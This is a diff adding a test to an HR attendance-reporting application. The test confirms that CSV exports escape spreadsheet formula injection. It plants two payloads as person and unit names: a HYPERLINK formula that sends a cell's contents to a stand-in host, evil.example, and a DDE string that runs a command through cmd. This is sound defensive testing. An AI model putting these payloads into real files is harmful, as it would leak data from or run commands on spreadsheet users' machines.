@@ -1,3 +1,4 @@
+import { parse } from 'csv-parse/sync';
 import request from 'supertest';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { buildWorld, createTestPlatform, signIn, type TestPlatform, type World } from '../support/test-platform.js';
@@ -90,5 +91,60 @@ describe('attendance compliance report (ATT-27)', () => {
     );
     expect(lines[1]).toContain('"Outsider, Olly"');
     expect(lines[1]).toContain('2026-11-06,Back pain or injury,5,,1,3,');
+  });
+});
+
+/** Issue 14 §10: names people typed reach every CSV as text, never as a live formula (OWASP CSV injection). */
+describe('formula injection in the attendance CSVs (ATT-26, ATT-27, ATT-28)', () => {
+  let t: TestPlatform;
+  let w: World;
+  const as = (u: keyof World['tokens']) => ({ Authorization: `Bearer ${w.tokens[u]}` });
+  const FAMILY_NAME = '=HYPERLINK("http://evil.example/?x="&B3,"Open")';
+  const UNIT_NAME = `@SUM(1+1)*cmd|' /C calc'!A0`;
+
+  beforeAll(async () => {
+    t = await createTestPlatform();
+    t.clock.set('2026-11-20T09:00:00Z');
+    w = await buildWorld(t);
+    const unit = await request(t.app).post('/api/v1/units').set(as('hr')).send({ name: UNIT_NAME });
+    expect(unit.status).toBe(201);
+    const person = await request(t.app).post('/api/v1/people').set(as('hr')).send({
+      staffNumber: 'CSV1',
+      givenName: '+44 Riley',
+      familyName: FAMILY_NAME,
+      role: 'officer',
+      unitId: unit.body.id,
+      serviceStartDate: '2020-01-06',
+    });
+    expect(person.status).toBe(201);
+    const absence = await request(t.app)
+      .post(`/api/v1/people/${person.body.id}/absences`)
+      .set(as('hr'))
+      .send({ startDate: '2026-11-16', reasonCategory: 'cold-flu' });
+    expect(absence.status).toBe(201);
+  });
+  afterAll(async () => t.destroy());
+
+  it('when HR downloads every CSV, then no cell starts with =, +, -, @, tab or CR, and the names read as text', async () => {
+    const agent = await signIn(t, w.users.hr.email);
+    const cells: string[] = [];
+    for (const url of [
+      '/reports/attendance/weekly.csv?asOf=2026-11-20',
+      '/reports/attendance.csv?from=2026-11-01&to=2026-11-20',
+      '/reports/attendance/monthly.csv?month=2026-11',
+      '/reports/attendance/monthly.csv?month=2026-11&part=reasons',
+      '/reports/attendance/cost.csv?period=2026-Q3',
+    ]) {
+      const res = await agent.get(url);
+      expect(res.status, url).toBe(200);
+      expect(res.headers['content-type'], url).toMatch(/text\/csv/);
+      const rows = parse(res.text) as string[][];
+      expect(rows.length, url).toBeGreaterThan(1);
+      for (const cell of rows.flat()) expect(cell, url).not.toMatch(/^[=+\-@\t\r]/);
+      cells.push(...rows.flat());
+    }
+    // The values stay readable: the same text with a single quote before it.
+    expect(cells).toContain(`'${FAMILY_NAME}, +44 Riley`);
+    expect(cells).toContain(`'${UNIT_NAME}`);
   });
 });
